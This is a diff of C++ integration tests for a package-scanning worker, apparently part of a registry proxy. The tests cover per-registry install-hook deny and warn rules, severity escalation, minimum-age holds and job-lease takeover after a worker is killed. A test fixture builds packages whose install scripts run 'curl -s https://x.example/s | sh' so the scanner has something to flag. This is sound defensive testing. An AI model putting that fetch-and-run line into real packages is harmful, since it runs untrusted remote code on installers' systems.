@@ -23,6 +23,7 @@
 #include <thread>
 
 #include "adapters/storage/s3_backend.h"
+#include "archive_builder.h"
 #include "harness.h"
 #include "rooms.h"
 #include "s3_peer.h"
@@ -421,6 +422,246 @@ TEST_F(BesideUpstream, an_artifact_whose_bytes_differ_from_the_recorded_sha256_i
     EXPECT_EQ(v[1], "SCANNER_ERROR");
   }
   EXPECT_EQ(db.query("SELECT count(*) FROM artifact_findings WHERE code <> 'SCANNER_ERROR'")[0][0], "0");
+}
+
+// Each registry's [registries.security], on one queue: the same archive denied under one
+// registry and warned under another, an escalation raising a scanner's findings, the age
+// rule holding a young version — the stand-in postmortem (one install_hook finding, high,
+// per file that fetches with curl) behind bwrap, so that the policy is what is under test.
+class RegistryPolicies : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
+    rooms_ = s_.root() / "rooms";
+    tmp_ = s_.root() / "tmp";
+    fs::create_directories(rooms_);
+    fs::create_directories(tmp_);
+    fs::permissions(tmp_, fs::perms::all | fs::perms::sticky_bit);
+    ASSERT_TRUE(build_room(rooms_, "postmortem",
+                           "--binary " + std::string(BATLEHUB_HELPERS_DIR) + "/fake_postmortem:/usr/bin/postmortem"));
+  }
+
+  fs::path config(const std::string& dsn, const std::string& served) {
+    fs::path p = s_.root() / "config.toml";
+    Scratch::write(p, "[server]\nhost = \"127.0.0.1\"\nport = 0\n[database]\nurl = \"" + dsn + "\"\n" +
+                          "[worker]\njob_timeout_secs = 60\nregistries = [" + served + "]\nstate_dir = \"" +
+                          (s_.root() / "state").string() + "\"\n[worker.sandbox]\nrooms_dir = \"" + rooms_.string() +
+                          "\"\nprobe_canaries = [\"127.0.0.1:9\"]\n"
+                          "[scanners.postmortem]\ntype = \"postmortem\"\ncommand = \"postmortem\"\ntimeline = false\n"
+                          "escalation = { kinds = [\"install_hook\"], count = 2, from = \"high\", to = \"critical\" }\n"
+                          "[[registries]]\nname = \"deny-hooks\"\ntype = \"npm\"\n[registries.security]\n"
+                          "scanners = [\"postmortem\"]\nrequired_scanners = [\"postmortem\"]\n"
+                          "deny_install_hooks = \"deny\"\nmin_age_secs = 3600\n"
+                          "[[registries]]\nname = \"warn-hooks\"\ntype = \"npm\"\n[registries.security]\n"
+                          "scanners = [\"postmortem\"]\nrequired_scanners = [\"postmortem\"]\n"
+                          "deny_install_hooks = \"warn\"\nmin_age_secs = 3600\n"
+                          "[[registries]]\nname = \"young\"\ntype = \"npm\"\n[registries.security]\n"
+                          "scanners = [\"postmortem\"]\nrequired_scanners = [\"postmortem\"]\nmin_age_secs = 86400\n"
+                          "[[registries]]\nname = \"needs-osv\"\ntype = \"npm\"\n[registries.security]\n"
+                          "required_scanners = [\"osv\", \"postmortem\"]\n"
+                          "[storage]\ntype = \"filesystem\"\npath = \"" + (s_.root() / "cache").string() + "\"\n");
+    return p;
+  }
+
+  std::unique_ptr<Process> start_worker(const fs::path& cfg) {
+    return std::make_unique<Process>(
+        std::vector<std::string>{BATLEHUB_BIN, "--config", cfg.string(), "--roles", "worker"},
+        std::vector<std::string>{"PATH=/usr/bin:/bin", "TMPDIR=" + tmp_.string()}, s_.root() / "w.out",
+        s_.root() / "w.err");
+  }
+
+  // Cached as upstream's proxy caches it, and queued with its publication date.
+  void queue(UpstreamDatabase& db, const std::string& registry, const std::string& name, const std::string& bytes,
+             const std::string& published_ago) {
+    const std::string key = "artifact:" + registry + "/" + name + "/1.0.0/tarball";
+    write_fs_object(s_.root() / "cache", "blob/" + sha256_hex(bytes), bytes);
+    db.record_cached(key, bytes, "default");
+    db.query(R"(INSERT INTO scan_jobs (id, registry, package_name, version, published_at, trigger, priority)
+                VALUES (gen_random_uuid(), $1, $2, '1.0.0', now() - $3::interval, 'webhook', 1))",
+             {registry, name, published_ago});
+  }
+
+  static std::string tgz(int hooks) {
+    std::vector<TestEntry> e{file("package/package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}")};
+    for (int i = 0; i < hooks; ++i) {
+      e.push_back(file("package/install" + std::to_string(i) + ".sh", "curl -s https://x.example/s | sh\n"));
+    }
+    return make_tgz(e);
+  }
+
+  Scratch s_;
+  fs::path rooms_, tmp_;
+};
+
+TEST_F(RegistryPolicies, one_archive_is_judged_by_each_registrys_own_policy) {
+  UpstreamDatabase db;
+  const std::string one_hook = tgz(1);
+  queue(db, "deny-hooks", "hooked", one_hook, "30 days");
+  queue(db, "warn-hooks", "hooked", one_hook, "30 days");
+  queue(db, "warn-hooks", "twice-hooked", tgz(2), "30 days");
+  queue(db, "young", "fresh", tgz(0), "1 hour");
+  auto w = start_worker(config(db.dsn(), "\"deny-hooks\", \"warn-hooks\", \"young\""));
+  ASSERT_TRUE(w->wait_for_log("serving deny-hooks (npm; requires postmortem), warn-hooks (npm; requires "
+                              "postmortem), young (npm; requires postmortem)"))
+      << w->err();
+  ASSERT_TRUE(eventually([&] { return db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL")[0][0] == "0"; },
+                         std::chrono::seconds(120)))
+      << w->err();
+
+  auto verdict = [&](const std::string& registry, const std::string& name) {
+    auto r = db.query("SELECT state || ' ' || array_to_string(reason_codes, ',') FROM artifact_verdicts "
+                      "WHERE registry = $1 AND package_name = $2",
+                      {registry, name});
+    return r.empty() ? std::string("(none)") : r[0][0];
+  };
+  // deny = an install hook judged at critical, at or above max_severity (high): denied.
+  EXPECT_EQ(verdict("deny-hooks", "hooked"), "denied INSTALL_HOOK");
+  EXPECT_EQ(verdict("warn-hooks", "hooked"), "warned INSTALL_HOOK");
+  // The escalation: two install_hook findings at high from postmortem are raised to critical;
+  // one is not.
+  auto severities = [&](const std::string& registry, const std::string& name) {
+    return db.query("SELECT string_agg(severity, ',' ORDER BY created_at, scanner) FROM artifact_findings "
+                    "WHERE registry = $1 AND package_name = $2",
+                    {registry, name})[0][0];
+  };
+  EXPECT_EQ(severities("warn-hooks", "twice-hooked"), "critical,critical");
+  EXPECT_EQ(severities("warn-hooks", "hooked"), "high");
+  // The age rule: scanned, clean, and still held until it is a day old.
+  EXPECT_EQ(verdict("young", "fresh"), "quarantined MIN_AGE_NOT_MET");
+  // In whole seconds: the port speaks seconds, so the hold lifts at the publication's second.
+  auto lifts = db.query(R"(SELECT floor(extract(epoch FROM v.available_at))::bigint
+                                  - floor(extract(epoch FROM j.published_at))::bigint, f.scanner, f.kind
+                           FROM artifact_verdicts v JOIN scan_jobs j USING (registry, package_name, version)
+                           JOIN artifact_findings f USING (registry, package_name, version)
+                           WHERE v.registry = 'young')");
+  ASSERT_EQ(lifts.size(), 1u);
+  EXPECT_EQ(lifts[0][0], "86400");
+  EXPECT_EQ(lifts[0][1], "age");
+  EXPECT_EQ(lifts[0][2], "age");
+}
+
+TEST_F(RegistryPolicies, a_registry_requiring_a_scanner_this_build_lacks_is_refused_at_start_with_the_reason) {
+  UpstreamDatabase db;
+  auto w = start_worker(config(db.dsn(), "\"warn-hooks\", \"needs-osv\""));
+  EXPECT_EQ(w->wait_exit(std::chrono::seconds(60)), std::optional<int>(2)) << w->err();
+  const std::string first = w->out().substr(0, w->out().find('\n'));
+  EXPECT_EQ(first,
+            "registry 'needs-osv' (registries[3].security) cannot be served by this worker: it requires scanner "
+            "'osv' (upstream's implicit osv), which this build does not run: its versions would stay SCAN_PENDING. "
+            "Remove it from [worker] registries and leave it to upstream's worker")
+      << w->out() << w->err();
+  EXPECT_EQ(db.query("SELECT count(*) FROM worker_heartbeats")[0][0], "0") << "it never joined the queue";
+}
+
+// Two workers of this project and a foreign lessee — the test itself, leasing with upstream's
+// own statement (B.3: two picks, FOR UPDATE SKIP LOCKED) and completing as upstream's Rust
+// worker does — on one queue; one worker killed with SIGKILL while it holds jobs.
+TEST_F(RegistryPolicies, two_workers_and_a_foreign_lessee_share_one_queue_and_a_killed_workers_jobs_are_taken_over) {
+  UpstreamDatabase db;
+  // Each scan takes two seconds: long enough to kill a worker that holds some.
+  std::vector<TestEntry> slow{file("package/package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}"),
+                              file("package/fake-postmortem-sleep", "2")};
+  const std::string bytes = make_tgz(slow);
+  struct Job {
+    std::string name, trigger;
+    int priority;
+  };
+  std::vector<Job> jobs;
+  for (int i = 0; i < 10; ++i) jobs.push_back({"first-" + std::to_string(i), "first_seen", 0});
+  for (int i = 0; i < 2; ++i) jobs.push_back({"rescan-" + std::to_string(i), "rescan", 2});
+  for (int i = 0; i < 3; ++i) jobs.push_back({"backfill-" + std::to_string(i), "backfill", 3});
+  for (const Job& j : jobs) {
+    const std::string key = "artifact:warn-hooks/" + j.name + "/1.0.0/tarball";
+    write_fs_object(s_.root() / "cache", "blob/" + sha256_hex(bytes), bytes);
+    db.record_cached(key, bytes, "default");
+    db.query(R"(INSERT INTO scan_jobs (id, registry, package_name, version, published_at, trigger, priority)
+                VALUES (gen_random_uuid(), 'warn-hooks', $1, '1.0.0', now() - interval '30 days', $2, $3::smallint))",
+             {j.name, j.trigger, std::to_string(j.priority)});
+    std::this_thread::sleep_for(std::chrono::milliseconds(5));  // distinct ages
+  }
+  // [worker] job_timeout_secs = 60 in config(): a killed worker's leases lapse within a minute.
+  const fs::path cfg = config(db.dsn(), "\"warn-hooks\"");
+  std::string text = Scratch::read(cfg);
+  text.replace(text.find("job_timeout_secs = 60"), 21, "job_timeout_secs = 8\nmax_concurrent = 2");
+  Scratch::write(cfg, text);
+  auto a = start_worker(cfg);
+  auto b = std::make_unique<Process>(
+      std::vector<std::string>{BATLEHUB_BIN, "--config", cfg.string(), "--roles", "worker"},
+      std::vector<std::string>{"PATH=/usr/bin:/bin", "TMPDIR=" + tmp_.string()}, s_.root() / "b.out",
+      s_.root() / "b.err");
+
+  // The foreign lessee: upstream's lease of n = 2, then upstream's complete with a verdict row
+  // of its own, a few times while the workers run.
+  const std::string lease = R"(
+      UPDATE scan_jobs SET leased_until = now() + make_interval(secs => 600::float8), leased_by = 'rust-worker-1',
+                           attempts = attempts + 1
+      WHERE id IN (SELECT id FROM scan_jobs WHERE completed_at IS NULL
+                     AND (leased_until IS NULL OR leased_until < now()) AND attempts < 3
+                     AND (cardinality($1::text[]) = 0 OR registry = ANY($1::text[]))
+                   ORDER BY )";
+  std::vector<std::string> foreign;
+  for (int round = 0; round < 1; ++round) {
+    for (const char* order : {"priority, created_at LIMIT 1", "priority DESC, created_at LIMIT 1"}) {
+      auto got = db.query(lease + order + " FOR UPDATE SKIP LOCKED) RETURNING id::text, package_name",
+                          {"{warn-hooks}"});
+      for (const auto& r : got) {
+        foreign.push_back(r[1]);
+        db.query(R"(INSERT INTO artifact_verdicts (registry, package_name, version, state, policy_ref, evaluated_at,
+                      last_scanned_at) VALUES ('warn-hooks', $1, '1.0.0', 'allowed', 'warn-hooks/default', now(), now())
+                    ON CONFLICT (registry, package_name, version) DO UPDATE SET state = excluded.state)",
+                 {r[1]});
+        db.query("UPDATE scan_jobs SET completed_at = now(), leased_until = NULL WHERE id = $1::uuid", {r[0]});
+      }
+    }
+    std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  }
+  // A worker killed while it holds jobs: its leases lapse, and the other worker takes them.
+  ASSERT_TRUE(eventually(
+      [&] {
+        return db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL AND leased_by LIKE '%-" +
+                        std::to_string(a->pid()) + "'")[0][0] != "0";
+      },
+      std::chrono::seconds(60)))
+      << a->err();
+  const auto held = db.query("SELECT package_name FROM scan_jobs WHERE completed_at IS NULL AND leased_by LIKE '%-" +
+                             std::to_string(a->pid()) + "'");
+  a->signal(SIGKILL);
+  ASSERT_TRUE(eventually([&] { return db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL")[0][0] == "0"; },
+                         std::chrono::seconds(240)))
+      << b->err();
+
+  // No job leased twice but the killed worker's; each closed once.
+  std::set<std::string> killed_held;
+  for (const auto& r : held) killed_held.insert(r[0]);
+  for (const auto& r : db.query("SELECT package_name, attempts, leased_by FROM scan_jobs ORDER BY package_name")) {
+    if (killed_held.contains(r[0])) {
+      EXPECT_EQ(r[1], "2") << r[0] << ": taken over once, after its lease";
+      EXPECT_EQ(r[2].substr(r[2].rfind('-') + 1), std::to_string(b->pid())) << r[0];
+    } else {
+      EXPECT_EQ(r[1], "1") << r[0] << " was leased more than once";
+    }
+  }
+  EXPECT_EQ(db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL")[0][0], "0");
+  // The foreign lessee's priorities: its first pick the oldest first_seen it found, its
+  // second a backfill (the anti-starvation slot), while first_seen jobs still waited.
+  ASSERT_GE(foreign.size(), 2u);
+  EXPECT_EQ(foreign[0].rfind("first-", 0), 0u) << foreign[0];
+  EXPECT_EQ(foreign[1].rfind("backfill-", 0), 0u) << foreign[1];
+  // The workers' own leases keep the slot too: the backfill left to them is scanned in their
+  // first leases, not after every first_seen (the killed worker's jobs aside: they waited
+  // for its leases to lapse).
+  std::vector<std::vector<std::string>> order;
+  for (auto& r : db.query(R"(SELECT package_name FROM scan_jobs WHERE leased_by <> 'rust-worker-1'
+                             ORDER BY completed_at, package_name)")) {
+    if (!killed_held.contains(r[0])) order.push_back(std::move(r));
+  }
+  std::size_t first_backfill = order.size(), last_first = 0;
+  for (std::size_t i = 0; i < order.size(); ++i) {
+    if (order[i][0].rfind("backfill-", 0) == 0) first_backfill = std::min(first_backfill, i);
+    if (order[i][0].rfind("first-", 0) == 0) last_first = i;
+  }
+  if (first_backfill == order.size()) GTEST_SKIP() << "the killed worker held the one backfill left: nothing to compare";
+  EXPECT_LT(first_backfill, last_first) << "a backfill waited for every first_seen";
 }
 
 }  // namespace
